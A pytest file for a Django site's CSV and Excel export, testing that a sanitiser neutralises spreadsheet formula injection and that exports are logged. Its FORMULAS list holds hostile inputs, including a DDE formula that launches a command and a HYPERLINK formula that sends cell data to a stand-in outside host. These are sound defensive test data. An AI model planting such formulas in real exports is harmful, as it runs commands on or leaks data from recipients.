"""What leaves the site opens as a table, runs nothing, and is written down."""

import csv
import gc
import tracemalloc
from collections.abc import Iterator
from datetime import UTC, date, datetime
from io import BytesIO, StringIO
from typing import Any

import pytest
from django.http import StreamingHttpResponse
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from accounts.models import User
from core.exporting import ExportFormat, Table, export, harmless
from core.models import ExportLog

FORMULAS = [
    "=1+1",
    "+31 6 12345678",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\xa0=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
    '=HYPERLINK("https://elders.test?"&A1;"klik")',
    "tekst;=1+1",
    "tekst, @SUM(A1)",
    "tekst\t=1+1",
    'aanhaling";=1+1',
]
PLAIN = [
    "",
    "Zwanger in Almelo",
    "a = b",
    "kraamzorg (2-4 weken)",
    "e-mail@voorbeeld.test",
    "één",
    "1 – 2",
    "'s avonds",
]


@pytest.fixture
def user(db: None) -> User:
    return User.objects.create_user("redactie@voorbeeld.test")


def table(*rows: tuple[Any, ...], columns: tuple[str, ...] = ("Titel", "Aantal")) -> Table:
    return Table("aanpakken", columns, rows, len(rows))


def body(response: StreamingHttpResponse) -> bytes:
    return b"".join(response.streaming_content)  # type: ignore[arg-type]


def as_csv(user: User, of: Table) -> list[list[str]]:
    text = body(export(user=user, table=of, kind=ExportFormat.CSV, filters={})).decode("utf-8-sig")
    return list(csv.reader(StringIO(text, newline=""), delimiter=";"))


def as_sheet(user: User, of: Table) -> Any:
    content = body(export(user=user, table=of, kind=ExportFormat.XLSX, filters={}))
    return load_workbook(BytesIO(content)).active


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_gets_an_apostrophe(text: str) -> None:
    assert harmless(text) != text
    assert harmless(text).replace("'", "") == text.replace("'", "")


@pytest.mark.parametrize("text", PLAIN)
def test_plain_text_stays_as_it_is(text: str) -> None:
    assert harmless(text) == text


@given(st.text())
def test_no_cell_begins_with_a_formula_wherever_a_program_splits(text: str) -> None:
    made = harmless(text)
    for separator in ",;|\t\r\n":
        for piece in made.split(separator):
            assert not piece.lstrip(" \xa0").startswith(("=", "+", "-", "@"))


@pytest.mark.parametrize("text", FORMULAS)
def test_a_csv_file_holds_no_formula(user: User, text: str) -> None:
    rows = as_csv(user, table((text, 1), columns=(text, "Aantal")))
    assert [len(row) for row in rows] == [2, 2]
    assert rows[0][0] == rows[1][0] == harmless(text)


@pytest.mark.parametrize("text", FORMULAS)
def test_an_xlsx_file_keeps_a_formula_as_text(user: User, text: str) -> None:
    sheet = as_sheet(user, table((text, 1), columns=(text, "Aantal")))
    for cell in (sheet["A1"], sheet["A2"]):
        assert cell.data_type == "s"
        assert cell.quotePrefix  # it stays text after an edit too
    assert sheet["B2"].value == 1


def test_an_error_code_of_excel_is_text_as_well(user: User) -> None:
    assert as_sheet(user, table(("#N/A", 1)))["A2"].data_type == "s"


def test_excel_sees_that_a_csv_file_is_in_utf_8(user: User) -> None:
    content = body(export(user=user, table=table(("één", 1)), kind=ExportFormat.CSV, filters={}))
    assert content.startswith(b"\xef\xbb\xbf")
    assert "één" in content.decode()


def test_numbers_days_and_nothing_stay_what_they_are(user: User) -> None:
    moment = datetime(2026, 1, 31, 23, 30, tzinfo=UTC)
    of = table((-5, 2.5, date(2026, 1, 2), moment, None), columns=("a", "b", "c", "d", "e"))
    assert as_csv(user, of)[1] == ["-5", "2.5", "2026-01-02", "2026-02-01 00:30", ""]
    assert [cell.value for cell in as_sheet(user, of)[2]] == [
        -5, 2.5, datetime(2026, 1, 2), datetime(2026, 2, 1, 0, 30), None,
    ]  # fmt: skip


def test_what_no_file_can_hold_is_left_out(user: User) -> None:
    of = table(("a\x00b\x0bc\ud800d", 1))
    assert as_csv(user, of)[1][0] == "abcd"
    assert as_sheet(user, of)["A2"].value == "abcd"


def test_a_cell_too_long_for_excel_is_cut(user: User) -> None:
    assert len(as_sheet(user, table(("x" * 40_000, 1)))["A2"].value) == 32_767


def test_an_export_is_logged_without_its_content(user: User) -> None:
    filters = {"theme": ["bereik", "armoede"], "q": ["intake"]}
    export(user=user, table=table(("Kanarie", 1), ("Nog een", 2)), kind=ExportFormat.CSV, filters=filters)
    log = ExportLog.objects.get()
    assert (log.user, log.name, log.kind, log.rows) == (user, "aanpakken", "csv", 2)
    assert log.filters_in_words == "q: intake; theme: bereik, armoede"
    assert "Kanarie" not in str(ExportLog.objects.values())


def test_the_log_is_only_added_to(user: User) -> None:
    export(user=user, table=table(("a", 1)), kind=ExportFormat.CSV, filters={})
    log = ExportLog.objects.get()
    log.rows = 0
    with pytest.raises(TypeError):
        log.save()
    with pytest.raises(TypeError):
        log.delete()
    with pytest.raises(TypeError):
        ExportLog.objects.update(rows=0)
    with pytest.raises(TypeError):
        ExportLog.objects.all().delete()
    user.delete()
    assert ExportLog.objects.values_list("user", "rows").get() == (None, 1)


@pytest.mark.usefixtures("tidy_memory")
@pytest.mark.parametrize("kind", ExportFormat)
def test_a_long_table_takes_no_more_memory_than_a_short_one(user: User, kind: ExportFormat) -> None:
    def rows(number: int) -> Iterator[tuple[str, int]]:
        for place in range(number):
            if place % 200 == 0:
                gc.collect()  # when Python clears what nobody holds any more depends on the tests before
            yield f"Aanpak {place} " + "x" * 200, place

    def peak(number: int) -> int:
        of = Table("lang", ("Titel", "Aantal"), rows(number), number)
        tracemalloc.start()
        for _ in export(user=user, table=of, kind=kind, filters={}):
            pass
        most = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        return most

    peak(10)  # what is loaded once
    # 3,000 rows of 200 characters are 600 kB, were they kept. What is counted is the whole process: a thread that
    # another test left may take something at the same time, and doesn't each time.
    assert min(peak(3_000) for _ in range(3)) < peak(300) + 300_000
